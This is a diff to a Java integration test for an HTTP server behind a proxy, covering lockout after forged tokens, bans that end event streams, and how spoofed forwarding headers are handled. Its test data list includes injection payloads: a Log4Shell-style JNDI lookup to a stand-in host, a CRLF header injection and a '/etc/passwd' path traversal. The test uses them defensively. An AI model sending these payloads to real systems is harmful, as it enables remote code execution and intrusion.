@@ -1,6 +1,7 @@
 package dev.rallypoint.http;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
 
 import dev.rallypoint.contract.BusMessage.Ban;
 import dev.rallypoint.contract.BusMessage.SavedBan;
@@ -15,6 +16,7 @@ import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** 127.0.0.2 is our proxy, 127.0.0.1 a stranger; 203.0.113.0/24 is banned. */
 class HttpProxyIT {
@@ -22,6 +24,24 @@ class HttpProxyIT {
     private static final String STRANGER = "127.0.0.1";
     private static final Ban BAN = new Ban(1, Ban.CIDR, "203.0.113.0/24", "Spam.", 0);
     private static final SavedBans BANNED = new SavedBans(List.of(new SavedBan(BAN, 1, 0)));
+
+    private static final List<String> HOSTILE =
+            List.of(
+                    "",
+                    ",,,,",
+                    "evil.example",
+                    "user@evil.example:1/?#",
+                    "127.0.0.1, evil.example",
+                    "for=\"",
+                    "for=\"[::1\";proto=evil.example",
+                    "[::ffff:999.0.0.1]:99999",
+                    "1.2.3.4%evil.example",
+                    "\u2028\u00e9\ud83d\ude97",
+                    "%0d%0aInjected: 1",
+                    "\u0001\u001b[31m",
+                    "../../../../etc/passwd",
+                    "${jndi:ldap://evil.example}",
+                    "1,".repeat(2_000));
 
     private static HttpNode node;
     private static HttpNode behindHaproxy;
@@ -78,6 +98,72 @@ class HttpProxyIT {
     void bansTheClientThatOurProxyNames(String from, String header, String status)
             throws IOException {
         assertThat(status(ask(node, from, "", header + "\r\n"))).isEqualTo(status);
+    }
+
+    @Test
+    void locksOutWhoMakesTokensUpAndNotTheProxyNorItsOtherClients() throws IOException {
+        try (RawHttp proxy = new RawHttp(PROXY, node.http.port())) {
+            String forger = forgedOf("X-Forwarded-For: 192.0.2.5\r\n");
+            for (int i = 1; i < HttpNode.ACCESS_TOKEN_FAILURES; i++) {
+                assertThat(status(proxy.get("/v1/me", forger).readAnswer())).isEqualTo("401");
+            }
+            assertThat(proxy.get("/v1/me", forger).readAnswer())
+                    .startsWith("HTTP/1.1 429 ")
+                    .contains("\"code\":\"locked_out\"");
+            for (String other : List.of("X-Forwarded-For: 192.0.2.6\r\n", "")) {
+                assertThat(status(proxy.get("/v1/me", forgedOf(other)).readAnswer()))
+                        .as(other)
+                        .isEqualTo("401");
+            }
+        }
+    }
+
+    private static String forgedOf(String client) {
+        return "Authorization: Bearer forged\r\n" + client;
+    }
+
+    @Test
+    void aBanEndsTheStreamsOfTheClientAndOfNobodyElseBehindTheProxy() throws IOException {
+        String events = "/v1/lobbies/" + FakeRooms.LOBBY_ID + "/events";
+        String login = "Authorization: Bearer " + node.token("Ada") + "\r\n";
+        try (RawHttp banned = new RawHttp(PROXY, node.http.port());
+                RawHttp other = new RawHttp(PROXY, node.http.port())) {
+            banned.get(events, login + "X-Forwarded-For: 192.0.2.129\r\n");
+            other.get(events, login + "X-Forwarded-For: 192.0.2.127\r\n");
+            await().until(() -> openStreams() == 2);
+            node.rooms.ban(Ban.CIDR, "192.0.2.128/25");
+            assertThat(banned.readToEnd(5_000)).startsWith("HTTP/1.1 200 ");
+            assertThat(openStreams()).isEqualTo(1);
+        }
+    }
+
+    private static double openStreams() {
+        return node.registry.get(Metric.EVENT_STREAMS.metricName()).gauge().value();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "X-Forwarded-For",
+                "X-Forwarded-Proto",
+                "X-Forwarded-Host",
+                "X-Forwarded-Port",
+                "X-Real-IP",
+                "Forwarded",
+                "Via",
+                "Host",
+                "Origin",
+                "X-HTTP-Method-Override",
+                "X-Original-URL",
+            })
+    void noHeaderAClientWritesBreaksOrEntersAnAnswer(String header) throws IOException {
+        for (String value : HOSTILE) {
+            for (String from : List.of(PROXY, STRANGER)) {
+                String answer = ask(node, from, "", header + ": " + value + "\r\n");
+                assertThat(status(answer)).as("%s: %s", header, value).isIn("200", "400");
+                assertThat(answer).doesNotContain("evil.example").doesNotContain("Injected");
+            }
+        }
     }
 
     @Test
